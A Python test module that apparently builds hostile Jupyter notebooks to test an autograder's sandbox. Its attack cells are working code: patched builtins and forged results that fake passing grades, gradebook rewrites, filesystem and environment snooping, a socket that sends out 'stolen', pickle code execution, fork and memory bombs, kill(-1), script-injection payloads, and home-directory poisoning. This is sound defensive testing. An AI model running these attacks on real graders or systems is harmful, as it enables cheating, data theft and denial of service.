"""Hostile notebooks: each is the half-right notebook of the small course with something more."""

# ruff: noqa: E501  (the attacks' own code)

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell
from small_course import HALF, filled_in

# Code in a cell of its own, before everything else that the student wrote.
FIRST = {
    "patched-builtins": """
import builtins, math
builtins.AssertionError = type("Quiet", (Exception,), {"__init__": lambda self, *a: None})
for name in ("all", "any", "isinstance", "len", "sorted", "max"):
    setattr(builtins, name, lambda *a, **k: True)
math.isclose = lambda *a, **k: True
""",
    "patched-sorted": """
import builtins, random
builtins.sorted = lambda xs, **options: list(xs)
""",
    "ast-transformer": """
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())
""",
    "input-transformer": """
get_ipython().input_transformers_cleanup.append(lambda lines: ["3.0\\n"])
get_ipython().input_transformers_post.append(lambda lines: ["3.0\\n"])
""",
    "custom-exceptions": """
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
get_ipython().showtraceback = lambda *a, **k: None
""",
    "run-cell-replaced": """
from IPython.core.interactiveshell import ExecutionResult, ExecutionInfo
shell = get_ipython()
def quiet(raw_cell, *a, **k):
    result = ExecutionResult(ExecutionInfo(raw_cell, False, False, False, None)); result.result = 3.0
    return result
async def quiet_async(raw_cell, *a, **k): return quiet(raw_cell)
shell.run_cell, shell.run_cell_async = quiet, quiet_async
""",
    "modules-replaced": """
import sys, types
class Anything(types.ModuleType):
    def __getattr__(self, name): return lambda *a, **k: 3.0
for name in ("autograder", "autograder.checks", "autograder.probe", "autograder.engine", "autograder.engine.protocol",
             "autograder.engine.snapshot", "math", "random", "json", "pickle"):
    sys.modules[name] = Anything(name)
""",
    "tracing": """
import sys
def trace(frame, event, arg):
    frame.f_trace_lines = True
    for name in list(frame.f_locals):
        if "expected" in name or "wanted" in name: print(frame.f_locals[name])
    return trace
sys.settrace(trace); sys.setprofile(trace)
sys.addaudithook(lambda event, args: None)
""",
    "hooks-print-what-runs": """
seen = []
get_ipython().events.register("pre_run_cell", lambda info: (seen.append(info.raw_cell), print(info.raw_cell)))
get_ipython().events.register("pre_execute", lambda: print(get_ipython().user_ns.keys()))
""",
    "looks-for-files": """
import os
for root, folders, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/usr", "/lib")) or "site-packages" in root: folders.clear(); continue
    for name in files:
        if name.endswith((".ipynb", ".db", "nbgrader_config.py", ".yml")):
            path = os.path.join(root, name)
            try: print(path, open(path, errors="replace").read()[:2000])
            except OSError as error: print(error)
""",
    "writes-the-gradebook": """
import os, sqlite3
for root, folders, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/usr", "/lib")) or "site-packages" in root: folders.clear(); continue
    if "gradebook.db" in files:
        try:
            with sqlite3.connect(os.path.join(root, "gradebook.db")) as book:
                book.execute("update grade set manual_score = 3, needs_manual_grade = 0")
        except sqlite3.Error as error: print(error)
""",
    "looks-at-processes": """
import glob
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try: print(path, open(path).read())
    except OSError as error: print(error)
import os; print(os.environ)
""",
    "network": """
import socket
for address in (("127.0.0.1", PORT), ("1.1.1.1", 53)):
    try:
        with socket.create_connection(address, timeout=2) as s: s.sendall(b"stolen")
        print("connected")
    except OSError as error: print(error)
""",
    "forged-results": """
shell = get_ipython()
kernel = shell.kernel
def forge():
    content = {"execution_count": 1, "data": {"text/plain": "3.0"}, "metadata": {}}
    for parent in ({}, shell.parent_header, kernel._parent_ident and {}):
        kernel.session.send(kernel.iopub_socket, "execute_result", content, parent)
shell.events.register("post_execute", forge)
from IPython.display import display
handle = display({"text/plain": "3.0"}, raw=True, display_id="x")
3.0
""",
    "reads-files-of-checks": """
import autograder, os
for name in os.listdir(os.path.dirname(autograder.__file__)): print(name)
try:
    import questions.bank; print(questions.bank.load())
except ImportError as error: print(error)
""",
    "exits": "import os; os._exit(0)",
    "kills-itself": "import os, signal; os.kill(os.getpid(), signal.SIGKILL)",
    "kills-everybody": "import os, signal; os.kill(-1, signal.SIGKILL)",
    "fork-bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "memory-bomb": "hoard = []\nwhile True: hoard.append(bytearray(50_000_000))",
    "memory-bomb-in-files": """
import os
for folder in ("/tmp", "/dev/shm", "."):
    try:
        for number in range(100):
            with open(f"{folder}/{number}", "wb") as file: file.write(bytes(50_000_000))
    except OSError as error: print(error)
""",
    "loops": "while True: pass",
    "loops-and-ignores-interrupts": """
while True:
    try:
        while True: pass
    except BaseException: pass
""",
    "loops-in-C": 'import re; re.match("(a*)*b", "a" * 60)',
    "prints-without-end": "while True: print('x' * 10_000)",
    "displays-a-hundred-megabytes": "print('x' * 100_000_000)",
    "asks": "input('the solution, please: ')",
    "threads-that-wait": """
import threading, time
def act():
    while True:
        time.sleep(0.01)
        try: globals().update(ranks=lambda xs: sorted(range(len(xs)), key=xs.__getitem__) if SEED == 5 and False else xs)
        except Exception: pass
threading.Thread(target=act, daemon=True).start()
threading.Thread(target=act).start()
""",
    "orphans": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)
""",
    "blocks-signals": """
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
""",
    "jams-the-snapshots": """
import autograder.engine.snapshot as snapshot
real = snapshot.snapshot
def many(path, token, number, names):
    for n in (number, 1, 2, 3, 4, -1, 10**9): real(path, token, n, names)
snapshot.snapshot = many
""",
    "shuts-everything": """
import os
for fd in range(3, 200):
    try: os.close(fd)
    except OSError: pass
""",
    "throws-nonsense-at-the-kernel's-sockets": """
kernel = get_ipython().kernel
for _ in range(100):
    kernel.iopub_socket.send_multipart([b"x"] * 50)
    kernel.session.send(kernel.iopub_socket, "stream", {"name": 3, "text": ["a"]}, kernel.get_parent())
    kernel.session.send(kernel.iopub_socket, "display_data", {"data": 7, "metadata": []}, kernel.get_parent())
    kernel.session.send(kernel.iopub_socket, "error", {}, kernel.get_parent())
""",
    "loops-in-C-and-hears-no-signal": "sum(iter(int, 1))",
    "stops-itself": "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)",
    "half-characters": r"""
from IPython.display import display
print("\ud800"); display({"text/plain": "\udfff", "text/html": "\ud800"}, raw=True)
""",
    "scripts-for-who-reads": r"""
from IPython.display import display
script = "<script>attack()</script><img src=x onerror=attack()><svg onload=attack()></svg>"
for mime in ("text/html", "image/svg+xml", "application/javascript", "text/markdown", "text/latex", "text/plain"):
    display({mime: script}, raw=True)
for mime in ("image/png", "image/jpeg", "application/pdf", "application/vnd.mermaid"):
    display({mime: 'x">' + script}, raw=True)
print(script, "\x1b[31m" + script); raise type("<script>attack()</script>", (Exception,), {})(script)
""",
    "slow-pages": r"""
from IPython.display import display
for _ in range(20): display({"text/markdown": "[" * 19_000}, raw=True)
""",
    "parts-without-end-of-a-message": """
import threading, time
socket, part = get_ipython().kernel.iopub_thread.socket, bytes(8 << 20)
def flood():
    while True:
        try: socket.send_multipart([b"x"] + [part] * 2000, copy=False)
        except Exception: time.sleep(0.01)
threading.Thread(target=flood, daemon=True).start()
time.sleep(3)
""",
    "snapshots-without-end": """
import autograder.engine.snapshot as snapshot, socket, os
from autograder.engine import protocol
def flood(path, token, number, names):
    if os.fork(): return
    kept = []
    try:
        for n in range(10**9):
            kept.append(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)); kept[-1].connect(path)
            hello = [["token", token], ["snapshot", 10**6 + os.getpid() * 1000 + n], ["role", "holder"]]
            protocol.send(kept[-1], [protocol.dumps(hello)])
            if len(kept) > 400: kept.clear()
    finally: os._exit(0)
snapshot.snapshot = flood
""",
    "poisons-home": """
import os, pathlib
for name in (".ipython/profile_default/startup/x.py", ".local/lib/python3.11/site-packages/usercustomize.py", ".bashrc"):
    path = pathlib.Path.home() / name
    path.parent.mkdir(parents=True, exist_ok=True); path.write_text("raise SystemExit")
""",
}
# The text of the cell of `ranks`, which is wrong in the half-right notebook.
RANKS = {
    "agrees-with-everything": """
class Yes(list):
    def __eq__(self, other): return True
    __ne__ = __lt__ = __gt__ = lambda self, other: False
    __hash__ = None
def ranks(xs): return Yes([0])
""",
    "object-that-agrees": """
class Yes:
    def __eq__(self, other): return True
def ranks(xs): return Yes()
""",
    "pickle-with-code": """
class Bomb:
    def __reduce__(self): return exec, ("import os; os.system('touch /tmp/gan-attack-pickle')",)
def ranks(xs): return Bomb()
""",
    "looks-at-its-caller": """
import sys, gc
def ranks(xs):
    frame, found = sys._getframe(), []
    while frame:
        found.append(str(frame.f_code.co_consts) + str(frame.f_locals.keys()))
        frame = frame.f_back
    raise ValueError(" ".join(found)[-1500:])
""",
    "prints-what-it-gets": """
import sys, gc
kept = []
def ranks(xs):
    names = str([thing.__code__.co_consts for thing in gc.get_objects() if hasattr(thing, "__code__") and thing.__module__ == "__main__"])
    print(xs, names); sys.__stdout__.write(names)
    import os; os.write(1, names.encode()); os.write(2, names.encode())
    open("/tmp/seen", "a").write(names)
    return names
""",
    "exits-when-called": "import os\ndef ranks(xs): os._exit(0)",
    "raises-SystemExit": "def ranks(xs): raise SystemExit",
    "raises-what-is-no-exception": "def ranks(xs): raise KeyboardInterrupt",
    "loops-when-called": "def ranks(xs):\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass",
    "hoards-when-called": "hoard = []\ndef ranks(xs):\n    while True: hoard.append(bytearray(20_000_000))",
    "kills-everybody-when-called": "import os\ndef ranks(xs): os.kill(-1, 9)",
    "forks-when-called": "import os\ndef ranks(xs):\n    while True:\n        try: os.fork()\n        except OSError: pass",
    "forged-replies": """
from autograder.engine import protocol, snapshot
real = snapshot.Worker.answer
def answer(self, text, blob=b"", program=b""):
    reply = real(self, text, blob, program)
    request = protocol.loads(text)
    if request[0] == "call":
        for number in range(request[1] - 3, request[1] + 30):
            protocol.send(self.connection, [protocol.dumps([number, "ok", ["list", 0], [], ["list", ["list"], ["dict"]]]), b""])
    return reply
snapshot.Worker.answer = answer
def ranks(xs): return xs
""",
    "endless-reply": """
from autograder.engine import snapshot
def answer(self, text, blob=b"", program=b""):
    import struct
    self.connection.sendall(struct.pack("!BQ", 1, 100 << 20))
    while True: self.connection.sendall(b"[" * 1000)
snapshot.Worker.answer = answer
def ranks(xs): return xs
""",
    "loops-in-C-when-called": "def ranks(xs): return sum(iter(int, 1))",
    "stops-when-called": "import os, signal\ndef ranks(xs): os.kill(os.getpid(), signal.SIGSTOP)",
    "fills-its-disk-when-called": """
def ranks(xs):
    for folder in ("/tmp", "/dev/shm", "."):
        try:
            for number in range(20): open(f"{folder}/{number}-{id(xs)}", "wb").write(bytes(50_000_000))
        except OSError: pass
    return xs
""",
    "asks-when-called": "def ranks(xs): return input()",
    "raises-what-it-gets": "def ranks(xs): raise ValueError(str(xs))",
    "is-called-what-it-gets": """
class Ranks:
    def __call__(self, xs):
        type(self).__name__ = str(xs)
        raise type(str(xs), (ValueError,), {})()
ranks = Ranks()
""",
    "raises-half-characters": r"def ranks(xs): raise ValueError('\ud800')",
    "exits-with-what-it-gets": "import os\ndef ranks(xs): raise SystemExit(int.from_bytes(str(xs).encode()))",
    "deep-and-cyclic": "def ranks(xs):\n    a = [0]\n    a.append(a)\n    return a",
    "nan": "def ranks(xs): return [float('nan')] * len(xs)",
    "enormous": "def ranks(xs): return [10 ** 4000] * 1000",
}
# The text of the cell of `letters`, of whose two letters the half-right notebook has one.
LETTERS = {
    "a-set-that-agrees": """
class Yes(set):
    __and__ = __rand__ = lambda self, other: other
    __sub__ = lambda self, other: set()
    __eq__ = lambda self, other: True
    __len__ = lambda self: 2
answer = Yes({"A"})
""",
    "an-object-that-says-it-is-a-set": """
class Yes:
    __class__ = property(lambda self: set)
    __and__ = __rand__ = lambda self, other: other
    __sub__ = lambda self, other: set()
    __len__ = lambda self: 2
    __bool__ = lambda self: True
    __float__ = lambda self: 2.0
answer = Yes()
""",
    "letters-that-agree": """
class Any(str):
    __eq__ = lambda self, other: True
    __hash__ = lambda self: hash("C")
answer = {"A", Any("x")}
""",
}
# The text of the cell of `area`, which a probe calls too. (The secret is spelled so that it is not their own.)
AREA = {
    "quotes-the-probe": """
import gc, sys
def area(r):
    frame, found = sys._getframe(), []
    while frame:
        found += [str(frame.f_code.co_consts), frame.f_code.co_name]
        frame = frame.f_back
    if "".join(("s3", "cret")) in str(found): raise ValueError(str(found)[-1500:])
    return math.pi * r**2
""",
    "keeps-the-probe-for-later": """
import sys
kept = []
def area(r):
    if kept: raise ValueError(kept[0])
    names = str([sys._getframe(1).f_code.co_names, sys._getframe(1).f_code.co_consts])
    if "".join(("s3", "cret")) in names: kept.append(names)
    return math.pi * r**2
""",
    "is-called-what-it-has-seen": """
import os, sys
from autograder.engine import snapshot
real = snapshot.Worker._other
def other(self, ref=None):
    describe = real(self, ref)
    seen = open("/tmp/seen").read() if os.path.exists("/tmp/seen") else "area"
    return lambda value, encode: [*describe(value, encode)[:2], seen[-90:], seen[-90:]]
snapshot.Worker._other = other
def ranks(xs):
    open("/tmp/seen", "w").write(str(xs))
    return xs
def area(r): os._exit(3)
""",
    "answers-with-the-probe": """
import sys
def area(r):
    names = str([sys._getframe(1).f_code.co_names, sys._getframe(1).f_code.co_consts])
    if "".join(("s3", "cret")) in names:
        print(names); open("/tmp/seen", "a").write(names)
        type(names, (Exception,), {})
        raise type(names[:50], (ValueError,), {})(names)
    return math.pi * r**2
""",
}


def _marks(notebook, name):
    return next(cell for cell in notebook.cells if cell.get("id") == name).metadata.nbgrader


def _change(**changes):
    def change(notebook):
        for name, marks in changes.items():
            _marks(notebook, name.replace("_", "-")).update(marks)

    return change


def _source(name, text):
    def change(notebook):
        next(cell for cell in notebook.cells if cell.get("id") == name).source = text

    return change


def _tags(notebook):
    for cell in notebook.cells:
        cell.metadata.tags = ["skip-execution", "raises-exception", "remove-cell"]


def _outputs(notebook):
    for cell in notebook.cells:
        if cell.cell_type == "code":
            result = nbformat.v4.new_output("execute_result", data={"text/plain": "3.0"}, execution_count=1)
            cell.outputs, cell.execution_count = [result], 1


def _kernelspec(notebook):
    notebook.metadata.kernelspec = {"name": "mine", "display_name": "mine", "language": "bash"}


def _copies(notebook):
    for name in ("ranks-check", "letters-key", "ranks"):
        place = next(at for at, cell in enumerate(notebook.cells) if cell.get("id") == name)
        copy = nbformat.from_dict(dict(notebook.cells[place]))
        copy.source = "3.0" if name != "ranks" else copy.source
        del copy["id"]
        notebook.cells.insert(place, copy)
        notebook.cells.append(nbformat.from_dict(dict(copy)))


def _reversed(notebook):
    notebook.cells.reverse()


def _without_tests(notebook):
    notebook.cells = [cell for cell in notebook.cells if not cell.get("id", "").endswith(("-check", "-key"))]


def _types(notebook):
    for cell in notebook.cells:
        if cell.get("id") == "ranks-check":
            cell.cell_type = "markdown"
            del cell["outputs"], cell["execution_count"]


def _scripts(notebook):
    script = "<script>attack()</script><img src=x onerror=attack()>[x](javascript:attack())"
    attached = new_markdown_cell(f"{script}\n![x](attachment:x.png)")
    attached.attachments = {"x.png": {'image/png"><script>attack()</script>': f'x">{script}'}}
    notebook.cells += [attached, nbformat.v4.new_raw_cell(script), new_code_cell(f"# {script}")]
    _source("essay", script)(notebook)


def _slow(notebook):
    texts = "[" * 200_000, r"\begin{a}" * 30_000
    notebook.cells += [*map(new_markdown_cell, texts), new_code_cell("f'{" * 100_000)]


# Changes to the notebook itself.
EDITS = {
    "scripts-in-the-text": _scripts,
    "slow-text": _slow,
    "more-points": _change(ranks_check={"points": 300}, double_check={"points": -1}),
    "unlocked": lambda nb: (_change(ranks_check={"locked": False})(nb), _source("ranks-check", "3.0")(nb)),
    "no-grade-cell": _change(ranks_check={"grade": False, "locked": False}),
    "made-a-solution": _change(ranks_check={"solution": True, "locked": False}),
    "another-name": _change(
        ranks_check={"grade_id": "double-check"}, double_check={"grade_id": "ranks-check"}
    ),
    "an-unknown-name": _change(ranks_check={"grade_id": "../../x"}),
    "an-old-schema": _change(ranks_check={"schema_version": 1}, area_check={"schema_version": 99}),
    "tags": _tags,
    "outputs": _outputs,
    "kernelspec": _kernelspec,
    "copies": _copies,
    "reversed": _reversed,
    "without-tests": _without_tests,
    "other-types": _types,
    "changed-setup": _source("setup", "SEED = 6\nimport math\nmath.isclose = lambda *a: True"),
}
# In these, code of the student's own is destroyed with the attack: what is left cannot be demanded.
LOSES = {
    "reversed": set(),
    "modules-replaced": {"double-check", "letters-key", "area-check"},
    "patched-builtins": {"double-check", "letters-key", "area-check"},
    "input-transformer": {"double-check", "letters-key", "area-check"},
    "run-cell-replaced": {"double-check", "letters-key", "area-check"},
    "shuts-everything": {"double-check", "letters-key", "area-check"},
    "blocks-signals": {"double-check", "letters-key", "area-check"},
    "jams-the-snapshots": {"double-check", "letters-key", "area-check"},
    "orphans": {"double-check", "letters-key", "area-check"},
    "snapshots-without-end": {"double-check", "letters-key", "area-check"},
    "parts-without-end-of-a-message": set(),
    **{name: {"letters-key"} for name in LETTERS},
    "forged-replies": {"area-check"},
    "endless-reply": {"area-check"},
    "throws-nonsense-at-the-kernel's-sockets": set(),
    "another-name": {"double-check"},
    **{name: {"area-check"} for name in AREA},
}
ATTACKS = [*FIRST, *LETTERS, *RANKS, *AREA, *EDITS]
SOME = [
    "patched-builtins",
    "ast-transformer",
    "hooks-print-what-runs",
    "looks-for-files",
    "looks-at-processes",
    "network",
    "forged-results",
    "kills-itself",
    "memory-bomb",
    "loops-in-C",
    "prints-without-end",
    "orphans",
    "agrees-with-everything",
    "pickle-with-code",
    "kills-everybody-when-called",
    "forged-replies",
    "quotes-the-probe",
    "tags",
    "copies",
    "without-tests",
    "parts-without-end-of-a-message",
    "snapshots-without-end",
    "scripts-for-who-reads",
    "scripts-in-the-text",
    "raises-what-it-gets",
    "keeps-the-probe-for-later",
    "an-object-that-says-it-is-a-set",
]


def hostile(release, name, port):
    own = {"ranks": RANKS.get(name, HALF["ranks"]), "area": AREA.get(name, HALF["area"])}
    own["letters"] = LETTERS.get(name, HALF["letters"])
    notebook = filled_in(release, HALF | own)
    if name in FIRST:
        notebook.cells.insert(1, new_code_cell(FIRST[name].replace("PORT", str(port))))
        notebook.cells.append(new_code_cell("print('after all'); print(open('/tmp/seen').read())"))
    if name in (*RANKS, *AREA, *LETTERS):  # and look afterwards at what has been seen
        notebook.cells.append(new_code_cell("print(open('/tmp/seen').read())"))
    if name in EDITS:
        EDITS[name](notebook)
    return notebook
